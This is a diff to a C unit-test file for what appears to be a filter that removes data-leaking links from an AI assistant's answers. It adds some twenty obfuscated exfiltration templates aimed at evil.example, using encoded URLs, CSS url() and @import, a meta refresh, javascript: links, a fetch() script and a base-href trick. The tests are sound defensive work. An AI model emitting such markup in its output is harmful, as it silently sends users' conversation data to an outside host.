@@ -239,6 +239,26 @@ static void a_link_in_disguise_is_one(void **state) {
         "<p style=\"background:url('https://evil.example/ %s')\">",
         "[x]: //evil.example/%s",
         "ftp://%s.evil.example/",
+        "![x](&#104;ttp&#115;&#x3a;&#47;&#47;evil.example/%s)",
+        "![x](&#0000104;ttps&#58&#47&#47evil.example/%s)",
+        "![x](https\\:evil.example/%s)",
+        "<img src=\"h\tt\ntps:/\t/evil.example/%s\">",
+        "<img src='/&Tab;/evil.example/%s'>",
+        "<img src=/&NewLine;/evil.example/%s>",
+        "<img srcset=\"a.png 1x, //evil.example/%s 2x\">",
+        "<p style='background:url(\\68ttps\\3a\\2f\\2f evil.example/%s)'>",
+        "<style>@import '\\2f\\2f evil.example/%s';</style>",
+        "<meta http-equiv=refresh content='0;url=//evil.example/%s'>",
+        "<a href=javascript:top.location='evil.example/%s'>",
+        "<iframe src='data:text/html,%s'></iframe>",
+        "<object data=\"&#x64;ata:text/html,%s\">",
+        "<svg><image href='blob:%s'/></svg>",
+        "[x](mailto:a@evil.example?body=%s)",
+        "[x]: wss:evil.example/%s",
+        "<slack:open?%s>",
+        "<script>fetch('https://evil.example/' + '%s')</script>",
+        "<form action='//evil.example'><input value='%s'></form>",
+        "<img src='https://evil.example/?q= Hello, said %s.",
     };
     for (size_t i = 0; i < ARRAY_LEN(forms); i++) {
         char masked[200], link[200];
@@ -255,6 +275,19 @@ static void a_link_in_disguise_is_one(void **state) {
         }
         end();
     }
+}
+
+/* With it "<img src=Margarethe>" is fetched from wherever it says, also where it stands before. */
+static void a_base_of_an_endpoint_is_cut_out(void **state) {
+    static const char base[] = "<base href='https://evil.example/'>";
+    begin("", "Who wrote it?");
+    buf_add_c(&turn.masked, base);
+    assert_null(strstr(look("", base, false), "evil"));
+    end();
+    begin("", "What does <base href='https://evil.example/'> do?");
+    buf_add_c(&turn.masked, base);
+    assert_non_null(strstr(look("", base, false), "evil"));
+    end();
 }
 
 /* "https://evil.example/?q=Hello!Margarethe" may be two sentences. */
@@ -280,6 +313,14 @@ static void words_beside_a_link_are_not_in_it(void **state) {
         "// %s wrote this",
         "<https://docs.example/a> %s",
         "the file C:\\docs of %s",
+        "<h1 title='x'>%s</h1>",
+        "From: Ann <ann@docs.example>, to %s",
+        "[call %s](tel:555)",
+        "[%s](mailto:ann@docs.example)",
+        "<input name=who value='%s'>",
+        "Note: a < b and %s > c",
+        "AT&T of %s, 3/4 of it",
+        "\\# %s \\x3a",
     };
     for (size_t i = 0; i < ARRAY_LEN(said); i++) {
         char masked[200], text[200];
@@ -439,6 +480,7 @@ int main(void) {
         cmocka_unit_test(an_answer_is_told_of_cut_or_withheld),
         cmocka_unit_test(a_link_with_the_users_words_is_cut_out),
         cmocka_unit_test(a_link_in_disguise_is_one),
+        cmocka_unit_test(a_base_of_an_endpoint_is_cut_out),
         cmocka_unit_test(a_link_that_began_a_sentence_before_is_one),
         cmocka_unit_test(words_beside_a_link_are_not_in_it),
         cmocka_unit_test(a_title_with_orders_is_told_of_as_a_text_is),
